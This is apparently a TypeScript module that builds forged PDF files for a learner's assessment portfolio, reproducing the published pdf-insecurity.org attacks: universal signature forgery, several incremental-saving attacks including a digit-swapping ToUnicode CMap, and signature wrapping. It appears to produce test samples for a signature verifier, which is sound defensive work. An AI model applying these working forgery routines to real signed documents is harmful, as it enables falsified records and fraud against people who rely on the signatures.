// The published forgeries of pdf-insecurity.org: USF, ISA and SWA.
import { readFile } from "node:fs/promises";
import { arrayItems, changedDict, forgedFooter, forgedTree, formWithFields, lyingCMap, nextNumber, pageDrawing } from "./objects.ts";
import { appearance, FORGED, HELVETICA, literal, paintText, pdfDate, rect, relative, signedLines } from "./painting.ts";
import { run, type Portfolio, type PortfolioFacts } from "./portfolio.ts";
import { BYTE_RANGE_SLOT, fillByteRange, signaturesIn } from "./signature-bytes.ts";
import { appendUpdate, lastTrailer, stream, xrefSection, xrefTable, type PdfObject, type UpdateOptions, type XrefEntry } from "./update-writer.ts";

// --- USF: universal signature forgery ----------------------------------------------------

/**
 * The unsigned portfolio with forged content and a learner's signature field whose signature
 * dictionary holds `entries` (a /ByteRange and /Contents that cannot be checked), with an
 * appearance reading "Digitally signed by Priya Shah": a reader that trusts the field's
 * presence shows a signed document.
 */
export async function universalForgery(p: Portfolio, entries: string): Promise<Buffer> {
  const pdf = p.unsigned;
  const { page, boxes } = p.facts.declaration;
  const n = nextNumber(pdf);
  const [sig, widget, ap, font, form] = [n, n + 1, n + 2, n + 3, n + 4];
  const objects: PdfObject[] = [
    ...(await pageDrawing(pdf, page, n + 5, paintText(boxes.assessor, [FORGED], { color: "0.6 0 0" }), { annots: [widget] })),
    { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${entries} /M ${pdfDate(new Date())} /Name (Priya Shah) /Reason (Learner's signature on the portfolio) >>` },
    { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (learner) /V ${sig} 0 R /F 132 /P ${page} 0 R /Rect ${rect(boxes.learner)} /AP << /N ${ap} 0 R >> >>` },
    { num: ap, body: appearance(boxes.learner, paintText(relative(boxes.learner), signedLines("Priya Shah", "Learner")), font) },
    { num: font, body: HELVETICA },
    { num: form, body: `<< /Fields [${widget} 0 R] /SigFlags 3 >>` },
    { num: p.facts.root, body: await changedDict(pdf, p.facts.root, { AcroForm: `${form} 0 R` }) },
  ];
  const out = appendUpdate(pdf, objects).pdf;
  return entries.includes(BYTE_RANGE_SLOT) ? fillByteRange(out) : out;
}

// --- ISA: incremental saving attack ------------------------------------------------------

/** An update that replaces page 2's footer stream with one that also draws the forged result. */
export async function contentChanged(pdf: Buffer, facts: PortfolioFacts, options: UpdateOptions = {}): Promise<Buffer> {
  return appendUpdate(pdf, [{ num: facts.declaration.footer, body: await forgedFooter(pdf, facts) }], options).pdf;
}

/** An update that adds a page giving the assessor's decision. */
export async function pageAdded(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  const kids = await arrayItems(pdf, facts.pages, "Kids");
  const lines = ["Assessor's decision", FORGED, "Daniel Okafor, Assessor"];
  return appendUpdate(pdf, [
    { num: facts.pages, body: await changedDict(pdf, facts.pages, { Kids: `[${[...kids, `${n} 0 R`].join(" ")}]`, Count: String(kids.length + 1) }) },
    { num: n, body: `<< /Type /Page /Parent ${facts.pages} 0 R /MediaBox [0 0 595.92 841.92] /Resources << /Font << /Fh ${n + 2} 0 R >> >> /Contents ${n + 1} 0 R >>` },
    { num: n + 1, body: stream("", paintText([50, 600, 545, 760], lines, { size: 16 })) },
    { num: n + 2, body: HELVETICA },
  ]).pdf;
}

/** An update that gives page 2's font a ToUnicode CMap reading every digit as 9 minus itself. */
export async function fontReplaced(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { font } = facts.declaration;
  return appendUpdate(pdf, [
    { num: font.num, body: await changedDict(pdf, font.num, { ToUnicode: `${n} 0 R` }) },
    { num: n, body: await lyingCMap(pdf, facts) },
  ]).pdf;
}

/** An update that adds an annotation to page 2 whose appearance paints `lines` in the assessor's box. */
export async function annotationAdded(pdf: Buffer, facts: PortfolioFacts, dict: string, lines: string[], options: { field?: boolean } = {}): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, boxes } = facts.declaration;
  const box = boxes.assessor;
  const objects: PdfObject[] = [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [n] })),
    { num: n, body: `<< /Type /Annot ${dict} /P ${page} 0 R /Rect ${rect(box)} /F 4 /AP << /N ${n + 1} 0 R >> >>` },
    { num: n + 1, body: appearance(box, paintText(relative(box), lines), n + 2) },
    { num: n + 2, body: HELVETICA },
  ];
  if (options.field) objects.push(await formWithFields(pdf, [n]));
  return appendUpdate(pdf, objects).pdf;
}

/** An update that points the catalog's /Pages at a new page tree whose page 2 shows the forged result. */
export async function pagesReplaced(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  return appendUpdate(pdf, [
    { num: facts.root, body: await changedDict(pdf, facts.root, { Pages: `${n} 0 R` }) },
    ...(await forgedTree(pdf, facts, n, paintText(facts.declaration.boxes.assessor, [FORGED], { color: "0.6 0 0" }))),
  ]).pdf;
}

/** Where each object of the file's current revision starts, as qpdf reads the cross-reference data. */
export async function objectOffsets(file: string): Promise<Map<number, number>> {
  const { stdout } = await run("qpdf", ["--show-xref", file]);
  return new Map([...stdout.matchAll(/^(\d+)\/0: uncompressed; offset = (\d+)/gm)].map((m) => [Number(m[1]), Number(m[2])]));
}

/** An update whose cross-reference section lists every object afresh and has no /Prev. */
export async function freshXref(file: string, facts: PortfolioFacts): Promise<Buffer> {
  const pdf = await readFile(file);
  const offsets = await objectOffsets(file);
  const forged = await forgedFooter(pdf, facts);
  const entries: XrefEntry[] = [];
  const size = nextNumber(pdf);
  for (let num = 1; num < size; num++) entries.push(offsets.has(num) ? { num, offset: offsets.get(num)! } : { num, free: true });
  return appendUpdate(pdf, [{ num: facts.declaration.footer, body: forged }], { prev: null, entries: entries.filter((e) => e.num !== facts.declaration.footer) }).pdf;
}

// --- SWA: signature wrapping ---------------------------------------------------------------

/**
 * Signature wrapping (CCS 2019, as esig/dss's siwa.pdf): the signed bytes after /Contents are
 * moved to the end of the file, a second /ByteRange naming their new place closes the
 * signature dictionary inside the gap, and the gap also holds a cross-reference section
 * written exactly where the moved startxref points, with the forged objects after it.
 */
export async function wrapped(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const sig = signaturesIn(pdf).at(-1)!;
  const [, a, b, c] = sig.byteRange;
  const xrefAt = lastTrailer(pdf).startxref;
  const prev = Number(/\/Prev (\d+)/.exec(pdf.toString("latin1", xrefAt))![1]);
  const moved = pdf.subarray(b);
  const rest = moved.toString("latin1", 0, moved.indexOf(">>\nendobj"));
  const close = (at: number) => Buffer.from(` ${rest.trim()} /ByteRange [0 ${a} ${String(at).padStart(10, "0")} ${c}] >>\nendobj\n`, "latin1");
  const head = Buffer.concat([pdf.subarray(0, b), close(0)]);
  if (head.length > xrefAt) throw new Error("the wrapped dictionary does not fit before the moved startxref");
  const forged = Buffer.concat([Buffer.from(`${facts.declaration.footer} 0 obj\n`, "latin1"), await forgedFooter(pdf, facts), Buffer.from("\nendobj\n", "latin1")]);
  const own = xrefSection(pdf, xrefAt);
  const tableLength = (movedTo: number, forgedAt: number) =>
    `${xrefTable([...own.map((e) => (e.offset !== undefined && e.offset >= b ? { ...e, offset: e.offset - b + movedTo } : e)), { num: facts.declaration.footer, offset: forgedAt }])}trailer\n<< ${trailerText(pdf, prev)} >>\n`;
  // Lay out: head, padding to the moved startxref, the section, the forged object, the moved bytes.
  const sectionLength = tableLength(0, 0).length;
  const forgedAt = xrefAt + sectionLength + 16;
  const movedTo = forgedAt + forged.length + 16;
  const section = Buffer.from(tableLength(movedTo, forgedAt), "latin1");
  const out = Buffer.concat([
    pdf.subarray(0, b), close(movedTo), Buffer.alloc(xrefAt - head.length, " "), section, Buffer.alloc(forgedAt - xrefAt - section.length, " "), forged, Buffer.alloc(movedTo - forgedAt - forged.length, " "), moved,
  ]);
  return out;
}

function trailerText(pdf: Buffer, prev: number): string {
  const t = lastTrailer(pdf);
  return [`/Size ${t.size}`, `/Root ${t.root}`, t.info ? `/Info ${t.info}` : "", t.id ? `/ID ${t.id}` : "", `/Prev ${prev}`].filter(Boolean).join(" ");
}

/** The signature dictionary written again in a later update: same ranges and value, a different /Reason and /M. */
export function signatureRewritten(pdf: Buffer, num: number, reason: string): Buffer {
  const text = pdf.toString("latin1");
  const at = text.lastIndexOf(`\n${num} 0 obj\n`) + `\n${num} 0 obj\n`.length;
  const body = text.slice(at, text.indexOf("\nendobj", at)).replace(/\/Reason \([^)]*\)/, `/Reason ${literal(reason)}`).replace(/\/M \([^)]*\)/, `/M ${pdfDate(new Date(Date.now() + 86_400_000))}`);
  return appendUpdate(pdf, [{ num, body }]).pdf;
}

/** The number of the object whose body holds `offset`. */
export function objectHolding(pdf: Buffer, offset: number): number {
  const head = pdf.toString("latin1", Math.max(0, offset - 4096), offset);
  return Number([...head.matchAll(/(?:^|\n)(\d+) 0 obj\b/g)].at(-1)![1]);
}

/** An update that takes an annotation off a page (the way a reviewer deletes a comment). */
export async function annotationRemoved(pdf: Buffer, page: number, annotation: number): Promise<Buffer> {
  const annots = (await arrayItems(pdf, page, "Annots")).filter((r) => r !== `${annotation} 0 R`);
  return appendUpdate(pdf, [{ num: page, body: await changedDict(pdf, page, { Annots: `[${annots.join(" ")}]` }) }]).pdf;
}
